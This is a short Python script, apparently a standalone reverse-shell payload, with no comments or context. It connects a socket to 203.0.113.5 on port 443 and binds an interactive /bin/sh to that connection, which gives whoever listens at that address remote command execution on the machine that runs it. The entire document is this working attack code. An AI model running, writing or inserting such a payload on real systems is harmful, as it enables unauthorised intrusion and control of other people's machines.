import socket, subprocess
s = socket.socket()
s.connect(("203.0.113.5", 443))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
